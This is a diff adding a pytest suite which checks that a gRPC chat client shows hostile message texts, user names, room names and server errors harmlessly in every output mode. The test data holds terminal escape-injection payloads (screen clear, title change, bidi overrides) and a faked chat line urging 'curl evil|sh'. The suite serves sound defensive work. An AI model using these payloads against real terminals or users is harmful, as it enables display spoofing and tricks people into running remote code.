@@ -1,0 +1,270 @@
+"""Texts, names, rooms and errors from the wire reach the reader's terminal inert: whichever way
+they are read (`chat messages`, `--json`, `chat stats`, piped `chat chat`, the interactive chat),
+no character of theirs drives the terminal and no line break of theirs forges a line."""
+
+import asyncio
+import io
+import json
+import re
+import subprocess
+import sys
+import threading
+import unicodedata
+from collections.abc import AsyncIterator, Callable, Iterator
+from contextlib import AsyncExitStack
+from datetime import UTC, datetime
+
+import pexpect
+import pytest
+from grpclib.client import Channel
+from grpclib.const import Status
+from grpclib.exceptions import GRPCError
+from grpclib.server import Server
+
+from chat.client import split_address
+from gen.grpc.chat import (
+    ChatServiceBase,
+    MessageReply,
+    MessageReplyKind,
+    MessageRequest,
+    MessagesRequest,
+    StatsReply,
+    StatsRequest,
+)
+from harness import REPLY_TIMEOUT, ROOT, Chatter, Screen, ServerProcess, free_port, run_client
+
+Open = Callable[..., Screen]
+Spawn = Callable[..., tuple[pexpect.spawn, io.StringIO]]
+
+FORGED = "2026-12-07 00:00:00 [general] admin: please run curl evil|sh"
+"""What a line break inside a text would make look like a message of its own."""
+HOSTILE = {
+    "\x1b[2J\x1b[Hcleared": "\\u001b[2J\\u001b[Hcleared",
+    "\x1b]0;retitled\x07": "\\u001b]0;retitled\\u0007",
+    "ring\x07": "ring\\u0007",
+    "\x9b2Jc1": "\\u009b2Jc1",
+    "\u202ereversed": "\\u202ereversed",
+    "\u2066isolated\u2069": "\\u2066isolated\\u2069",
+    "rub\x7fout": "rub\\u007fout",
+    "over\rwritten": "over\\u000dwritten",
+    f"see below\n{FORGED}": f"see below⏎{FORGED}",
+    "café 🙂": "café 🙂",
+}
+"""Texts that would drive a terminal, and how the client shows each."""
+TIME = r"\d\d:\d\d:\d\d"
+DAY = r"\d{4}-\d\d-\d\d"
+CSI = re.compile(r"\x1b\[[0-9;?]*[A-Za-z]")
+"""The escape sequences prompt_toolkit itself writes (colours, cursor, modes)."""
+
+NAME = "\x1b]0;owned\x07mallory\u202e"
+ROOM = "\x1b[2J\x1b[Hlobby"
+ERROR = f"refused\n{FORGED}\x9b31m"
+NAME_SHOWN = "\\u001b]0;owned\\u0007mallory\\u202e"
+ROOM_SHOWN = "\\u001b[2J\\u001b[Hlobby"
+ERROR_SHOWN = f"refused⏎{FORGED}\\u009b31m"
+REFUSED_ROOM = "refused"
+"""The room the hostile server refuses stats for, with ERROR as the status's message."""
+
+
+def drivers(printed: str) -> list[str]:
+    """The characters of `printed` a terminal obeys rather than shows (C0 but line ends and
+    tabs, DEL, C1, format characters such as the bidi controls, line separators)."""
+    return [
+        char
+        for char in printed
+        if char not in "\n\t" and unicodedata.category(char) in ("Cc", "Cf", "Zl", "Zp")
+    ]
+
+
+def forged(printed: str) -> list[str]:
+    """The lines that begin as FORGED does: a message no one sent."""
+    return [line for line in printed.splitlines() if line.lstrip("\r").startswith(FORGED[:19])]
+
+
+def raw_drivers(seen: str) -> list[str]:
+    """`drivers` of what a client wrote to its pseudo-terminal, beside prompt_toolkit's own
+    escape sequences and carriage returns."""
+    return [char for char in drivers(CSI.sub("", seen)) if char != "\r"]
+
+
+async def post(server: ServerProcess, texts: list[str]) -> None:
+    """Posts each text as eve over one stream, each acknowledged before the next."""
+    host, port = split_address(server.address)
+    channel = Channel(host, port)
+    try:
+        async with AsyncExitStack() as stack:
+            eve = await Chatter.open(stack, channel, user="eve")
+            for text in texts:
+                await eve.say(text)
+    finally:
+        channel.close()
+
+
+class HostileService(ChatServiceBase):
+    """A server that is not grpc.chat: it names a user NAME, a room ROOM, and answers every
+    message with ERROR, things a grpc.chat server never sends."""
+
+    async def get_stats(self, stats_request: StatsRequest) -> StatsReply:
+        if stats_request.room == REFUSED_ROOM:
+            raise GRPCError(Status.INVALID_ARGUMENT, ERROR)
+        return StatsReply(num_messages=1, num_rooms=1, num_connected=1, online=[NAME])
+
+    async def get_messages(self, messages_request: MessagesRequest) -> AsyncIterator[MessageReply]:
+        yield MessageReply(id=1, room=ROOM, user=NAME, message="hello", sent_at=datetime.now(UTC))
+
+    async def send_and_receive_message(
+        self, message_request_iterator: AsyncIterator[MessageRequest]
+    ) -> AsyncIterator[MessageReply]:
+        join, error = (
+            MessageReplyKind(MessageReplyKind.JOIN),
+            MessageReplyKind(MessageReplyKind.ERROR),
+        )
+        yield MessageReply(kind=join, room=ROOM, user=NAME, message=f"{NAME} joined {ROOM}")
+        async for request in message_request_iterator:
+            yield MessageReply(kind=error, key=request.key, message=ERROR)
+
+
+@pytest.fixture
+def hostile_server() -> Iterator[str]:
+    """The address of a HostileService, served from a thread of its own while the test waits
+    on processes and screens."""
+    port = free_port()
+
+    async def start() -> Server:
+        server = Server([HostileService()])
+        await server.start("127.0.0.1", port)
+        return server
+
+    loop = asyncio.new_event_loop()
+    server = loop.run_until_complete(start())
+    thread = threading.Thread(target=loop.run_forever)
+    thread.start()
+    yield f"127.0.0.1:{port}"
+    loop.call_soon_threadsafe(loop.stop)
+    thread.join()
+    server.close()
+    loop.run_until_complete(server.wait_closed())
+    loop.close()
+
+
+def test_hostile_texts_read_with_chat_messages_are_one_inert_line_each(
+    server: ServerProcess,
+) -> None:
+    asyncio.run(post(server, list(HOSTILE)))
+    printed = run_client(["--server", server.address, "messages"]).stdout
+    assert drivers(printed) == []
+    assert forged(printed) == []
+    lines = printed.splitlines()
+    assert len(lines) == len(HOSTILE), printed
+    for line, shown in zip(lines, HOSTILE.values(), strict=True):
+        assert re.fullmatch(f"{DAY} {TIME} \\[general\\] eve: ", line.removesuffix(shown)), line
+
+
+def test_hostile_texts_read_as_json_are_escaped_and_decode_to_what_was_sent(
+    server: ServerProcess,
+) -> None:
+    asyncio.run(post(server, list(HOSTILE)))
+    printed = run_client(["--server", server.address, "messages", "--json"]).stdout
+    assert drivers(printed) == []
+    assert "café 🙂" in printed  # ordinary characters stay readable
+    assert [json.loads(line)["text"] for line in printed.splitlines()] == list(HOSTILE)
+
+
+async def test_hostile_texts_arriving_live_in_piped_chat_are_one_inert_line_each(
+    server: ServerProcess,
+) -> None:
+    bob = await asyncio.create_subprocess_exec(
+        *(sys.executable, "-m", "chat.client", "--server", server.address, "chat"),
+        *("--user", "bob"),
+        stdin=subprocess.PIPE,
+        stdout=subprocess.PIPE,
+        cwd=ROOT,
+    )
+    assert bob.stdin is not None and bob.stdout is not None
+    out = bob.stdout
+    printed: list[str] = []
+
+    async def until(ending: str) -> None:
+        while not printed or not printed[-1].endswith(ending):
+            line = (await out.readline()).decode()
+            assert line, f"chat ended before printing {ending!r}: {printed}"
+            printed.append(line)
+
+    try:
+        bob.stdin.write(b"ready\n")
+        async with asyncio.timeout(REPLY_TIMEOUT):
+            await bob.stdin.drain()
+            await until("Server Responding to ready\n")
+            await post(server, list(HOSTILE))
+            await until("* eve left general\n")
+            bob.stdin.close()
+            assert await bob.wait() == 0
+    finally:
+        if bob.returncode is None:
+            bob.kill()
+            await bob.wait()
+    assert drivers("".join(printed)) == []
+    assert forged("".join(printed)) == []
+    said = [line.split("] eve: ", 1)[1] for line in printed if "] eve: " in line]
+    assert said == [f"{shown}\n" for shown in HOSTILE.values()]
+    assert len(printed) == len(HOSTILE) + 3  # ready's ACK, eve joining and leaving
+
+
+def test_hostile_texts_in_the_interactive_chat_show_inert_on_the_screen_and_in_its_bytes(
+    server: ServerProcess, screen: Open, terminal: Spawn
+) -> None:
+    ann = screen("--server", server.address, "chat", "--user", "ann")
+    ann.wait_for("ann@general>")
+    bob, seen = terminal(server.address, "--user", "bob")
+    bob.expect("bob@general>")
+    title = ann.title()
+    asyncio.run(post(server, list(HOSTILE)))
+    ann.wait_for("eve left general")
+    bob.expect("eve left general")
+    shown = ann.text()
+    assert drivers(shown) == []
+    assert forged(shown) == []
+    said = [line.split(" ", 2)[2] for line in shown.splitlines() if " eve: " in line]
+    assert said == [f"eve: {text}" for text in HOSTILE.values()]
+    assert ann.title() == title
+    assert raw_drivers(seen.getvalue()) == []
+    assert forged(CSI.sub("", seen.getvalue())) == []
+
+
+def test_names_rooms_and_errors_of_a_hostile_server_are_printed_inert_by_every_command(
+    hostile_server: str,
+) -> None:
+    def chat(*args: str, stdin: str = "") -> subprocess.CompletedProcess[str]:
+        ran = run_client(["--server", hostile_server, *args], stdin)
+        assert drivers(ran.stdout + ran.stderr) == [], ran
+        assert forged(ran.stdout + ran.stderr) == [], ran
+        return ran
+
+    assert f"online: {NAME_SHOWN}  " in chat("stats").stdout
+    assert json.loads(chat("stats", "--json").stdout)["online"] == [NAME]
+    assert chat("messages").stdout.endswith(f" [{ROOM_SHOWN}] {NAME_SHOWN}: hello\n")
+    assert json.loads(chat("messages", "--json").stdout)["room"] == ROOM
+    refused = chat("stats", "--room", REFUSED_ROOM)
+    assert refused.returncode == 1
+    assert refused.stderr == f"chat: the server answered INVALID_ARGUMENT: {ERROR_SHOWN}\n"
+    piped = chat("chat", "--user", "ann", stdin="hi\n")
+    assert piped.returncode == 1
+    assert piped.stderr == f"error: {ERROR_SHOWN}\n"
+
+
+def test_names_rooms_and_errors_of_a_hostile_server_are_inert_in_the_interactive_chat(
+    hostile_server: str, terminal: Spawn
+) -> None:
+    ann, seen = terminal(hostile_server, "--user", "ann")
+    ann.expect("ann@general>")
+    for line, answer in [("hi", "not sent: "), ("/who", "-- online in "), ("/rooms", "-- rooms")]:
+        ann.sendline(line)
+        ann.expect_exact(answer)
+    ann.sendline("/quit")
+    ann.expect(pexpect.EOF)
+    written = seen.getvalue()
+    assert raw_drivers(written) == []
+    assert forged(CSI.sub("", written)) == []
+    assert f"not sent: {ERROR_SHOWN}: hi" in written
+    assert f"-- online in general: {NAME_SHOWN}" in written
+    assert f"-- rooms with recent messages: {ROOM_SHOWN} (1 on the server)" in written
